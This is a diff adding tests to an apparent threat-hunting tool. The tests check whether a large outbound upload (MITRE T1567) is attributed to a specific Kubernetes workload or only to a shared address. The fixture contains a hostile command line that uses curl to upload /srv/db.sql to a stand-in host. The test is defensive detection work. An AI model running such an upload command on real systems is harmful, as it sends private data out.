@@ -147,6 +147,63 @@ describe('Falco alerts', () => {
   });
 });
 
+describe('an address that a sensor saw a container connect from', () => {
+  const connect = (second: number, process: object, saddr: string) =>
+    tetragon('process_kprobe', second, {
+      ...{ process, function_name: 'tcp_connect' },
+      args: [
+        { sock_arg: { protocol: 'IPPROTO_TCP', saddr, daddr: '198.51.100.10', sport: 41200, dport: 80 } },
+      ],
+    });
+  const upload = (saddr: string) => ({
+    ...{ _path: 'conn', ts: Date.parse('2026-11-21T08:00:02Z') / 1000, uid: 'C1', proto: 'tcp' },
+    ...{ 'id.orig_h': saddr, 'id.orig_p': 41200, 'id.resp_h': '198.51.100.10', 'id.resp_p': 80 },
+    ...{ conn_state: 'SF', duration: 60, orig_bytes: 500_000_000, resp_bytes: 900 },
+    ...{ orig_pkts: 400_000, orig_ip_bytes: 520_000_000, resp_pkts: 100, resp_ip_bytes: 6000 },
+  });
+  const curl = process('/usr/bin/curl', '-T /srv/db.sql http://198.51.100.10/');
+  const { pod: _pod, docker: _docker, ...onHost } = curl;
+  const other = {
+    ...curl,
+    pod: {
+      ...curl.pod,
+      name: 'other-1',
+      container: { ...curl.pod.container, id: `containerd://${'ab'.repeat(32)}` },
+    },
+  };
+
+  async function uploaders(name: string, events: object[]): Promise<string[]> {
+    const result = await huntLines(name, [
+      tetragon('process_exec', 1, { process: curl }),
+      tetragon('process_exec', 1, { process: other }),
+      ...events,
+      upload('10.20.0.15'),
+    ]);
+    return result.report.findings
+      .filter(({ technique, status }) => technique === 'T1567' && status === 'open')
+      .map(({ entity }) => `${entity.kind}:${entity.name}`);
+  }
+
+  test('is its workload to every other sensor', async () => {
+    expect(await uploaders('one.log', [connect(2, curl, '10.20.0.15')])).toEqual([
+      'workload:shop/web-5d9c7b7f66-x2x4z',
+    ]);
+  });
+
+  test('is nobody when the host or another workload uses it too', async () => {
+    const address = ['address:10.20.0.15'];
+    expect(
+      await uploaders('host.log', [connect(2, curl, '10.20.0.15'), connect(3, onHost, '10.20.0.15')]),
+    ).toEqual(address);
+    const both = [
+      connect(2, curl, '10.20.0.15'),
+      connect(3, other, '10.20.0.15'),
+      connect(4, curl, '10.20.0.15'),
+    ];
+    expect(await uploaders('two.log', both)).toEqual(address);
+  });
+});
+
 test('the samples of all sources of a product in one log are read by the same sources, line by line', async () => {
   const root = contentFolder('sources');
   const ids = (await readdir(root)).filter((id) => /^(?:falco|tetragon)(?:-|$)/.test(id));
